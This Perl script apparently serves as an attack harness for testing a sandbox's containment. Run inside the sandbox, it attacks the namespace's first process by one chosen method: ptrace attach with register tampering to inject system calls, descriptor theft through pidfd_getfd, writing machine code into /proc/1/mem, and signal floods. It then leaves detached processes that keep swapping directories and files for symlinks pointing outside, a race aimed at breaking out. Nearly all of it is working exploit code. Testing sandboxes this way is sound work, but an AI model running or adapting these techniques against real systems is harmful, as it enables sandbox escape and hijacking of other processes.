# Runs inside the sandbox as `perl -e THIS WAY MARK OUTSIDE [stay]`: attacks the first process of the namespace in one way,
# leaves survivors that swap what the command wrote for links outwards, and ends. Prints what it could do.
use strict;
use Config;
my ($way, $mark, $outside, $stay) = @ARGV;
my $x64 = $Config{archname} =~ /x86_64/;
my %nr = $x64
  ? (prctl => 157, ptrace => 101, vm_writev => 311, pidfd_open => 434, pidfd_getfd => 438, write => 1, exit => 231)
  : (prctl => 167, ptrace => 117, vm_writev => 271, pidfd_open => 434, pidfd_getfd => 438, write => 64, exit => 94);
$| = 1;

sub pointer { unpack 'J', pack 'p', $_[0] }
sub trace { syscall($nr{ptrace}, 0 + $_[0], 0 + $_[1], 0 + $_[2], ref $_[3] ? ${ $_[3] } : 0 + $_[3]) }
sub told { print "$way: $_[0]\n" }

# Makes the traced process carry out a system call of its own.
sub inject {
  my ($pid, $number, @args) = @_;
  my $saved = "\0" x 512;
  my $vector = pack 'JJ', pointer($saved), 512;
  return told("no registers: $!") if trace(0x4204, $pid, 1, \$vector) < 0;
  my $length = (unpack 'JJ', $vector)[1];
  my @words = unpack 'Q*', substr($saved, 0, $length);
  if ($x64) {
    @words[10, 15, 16] = ($number, -1, $words[16] - 2);
    @words[14, 13, 12] = map { $_ // 0 } @args[0 .. 2];
  } else {
    my $word = "\0" x 8;
    trace(1, $pid, $words[32], \$word);
    $words[32] -= 4 unless unpack('L', $word) == 0xd4000001;
    @words[0 .. 2] = map { $_ // 0 } @args[0 .. 2];
    $words[8] = $number;
  }
  my $changed = pack 'q*', @words;
  my $put = pack 'JJ', pointer($changed), $length;
  return told("registers not set: $!") if trace(0x4205, $pid, 1, \$put) < 0;
  trace(9, $pid, 0, 0);
  waitpid $pid, 0;
  my $back = pack 'JJ', pointer($saved), $length;
  trace(0x4205, $pid, 1, \$back);
  told("carried out system call $number");
}

# Where it stops is also where its stack is: eight bytes there are what an event descriptor takes.
sub inject_event {
  my ($pid, $fd) = @_;
  my $registers = "\0" x 512;
  my $vector = pack 'JJ', pointer($registers), 512;
  trace(0x4204, $pid, 1, \$vector);
  my $place = (unpack 'Q*', $registers)[$x64 ? 19 : 31] - 1024;
  trace(5, $pid, $place, 1);
  inject($pid, $nr{write}, $fd, $place, 8);
}

sub events { grep { (readlink("/proc/1/fd/$_") // '') =~ /eventfd/ } map { m{/(\d+)$} } glob '/proc/1/fd/*' }

sub attached {
  my ($pid) = @_;
  return told("not attached: $!") if trace(16, $pid, 0, 0) < 0;
  waitpid $pid, 0;
  inject($pid, $nr{prctl}, 1, 0);
  inject_event($pid, $_) for events();
  trace(17, $pid, 0, 0);
}

sub theft {
  my $pidfd = syscall($nr{pidfd_open}, 1, 0);
  my $stolen = 0;
  for my $fd (0 .. 63) {
    my $mine = syscall($nr{pidfd_getfd}, $pidfd, $fd, 0);
    next if $mine < 0;
    $stolen++;
    my $one = pack 'Q', 1;
    syscall($nr{write}, $mine, $one, 8) if (readlink("/proc/self/fd/$mine") // '') =~ /eventfd/;
  }
  told("took $stolen descriptors");
}

sub names { my $done = 0; for my $fd (0 .. 63) { open my $file, '+<', "/proc/1/fd/$fd" or next; $done++; syswrite $file, pack 'Q', 1 } told("opened $done") }

sub memory {
  my ($place) = @_;
  open my $file, '+<', $place or return told("not opened: $!");
  my $pc = hex +(split ' ', do { local $/; open my $call, '<', '/proc/1/syscall' or return told("no counter: $!"); <$call> })[-1];
  my $code = $x64 ? pack('C*', 0xb8, 0xe7, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05) : pack('L*', 0xd2800bc8, 0xd2800000, 0xd4000001);
  sysseek $file, $pc, 0;
  told(syswrite($file, $code) ? 'wrote to its memory' : "not written: $!");
}

sub vector {
  my $byte = "\0" x 64;
  my ($from, $to) = (pack('JJ', pointer($byte), 64), pack('JJ', 4096, 64));
  told(syscall($nr{vm_writev}, 1, $from, 1, $to, 1, 0) < 0 ? "not written: $!" : 'wrote');
}

sub stop_traced { fork and return; setpgrp; select undef, undef, undef, 0.02; trace(0, 0, 0, 0); kill STOP => $$; sleep 60; exit }

my %ways = (
  attach => sub { attached(1) },
  seize => sub { trace(0x4206, 1, 0, 0) < 0 ? told("not seized: $!") : do { trace(0x4207, 1, 0, 0); waitpid 1, 0; inject(1, $nr{prctl}, 1, 0); inject_event(1, $_) for events(); trace(17, 1, 0, 0) } },
  theft => \&theft,
  names => \&names,
  memory => sub { memory('/proc/1/mem') },
  thread => sub { memory('/proc/1/task/1/mem') },
  vector => \&vector,
  signals => sub { kill $_, 1 for grep { $_ != 19 } 1 .. 64; kill 19, 1; told('sent') },
  traced => \&stop_traced,
  parent => sub { attached(getppid()) },
  subreaper => sub { syscall($nr{prctl}, 36, 1, 0, 0, 0); told('adopts') },
  deathsig => sub { syscall($nr{prctl}, 1, 0, 0, 0, 0); attached(1) },
  undumpable => sub { syscall($nr{prctl}, 4, 0, 0, 0, 0); told('hides') },
  silent => sub { told('closes its output'); close STDOUT; close STDERR },
  holding => sub { told('keeps its output open') },
  stopped => sub { my $child = fork; if (!$child) { kill STOP => $$; sleep 60; exit } told('leaves a stopped child') },
  ignoring => sub { $SIG{$_} = 'IGNORE' for qw(TERM HUP INT QUIT PIPE USR1 USR2); told('ignores signals') },
);
mkdir $_ for qw(made dist);
for my $top (qw(made dist)) {
  mkdir "$top/dir";
  for my $name (map { "f$_" } 0 .. 9) { open my $file, '>', "$top/dir/$name"; print $file "inside\n" }
}
($ways{$way} or die "no such way: $way")->();

# Swaps as fast as it can: directories, files and links.
sub survive {
  my ($top) = @_;
  for (;;) {
    rename "$top/dir", "$top/away"; symlink $outside, "$top/dir"; select undef, undef, undef, 0.0005;
    unlink "$top/dir"; rename "$top/away", "$top/dir";
    rename "$top/dir/f3", "$top/dir/kept"; symlink "$outside/f3", "$top/dir/f3"; select undef, undef, undef, 0.0002;
    unlink "$top/dir/f3"; rename "$top/dir/kept", "$top/dir/f3";
  }
}
for my $top (qw(made dist)) {
  next if fork;
  require POSIX; POSIX::setsid();
  exit if fork;
  if ($way ne 'holding') { close STDOUT; close STDERR }
  $0 = "survivor $mark $top";
  survive($top);
}
print "swapping\n" unless $way eq 'silent';
select undef, undef, undef, $stay ? 60 : 0.03;
exit 7;
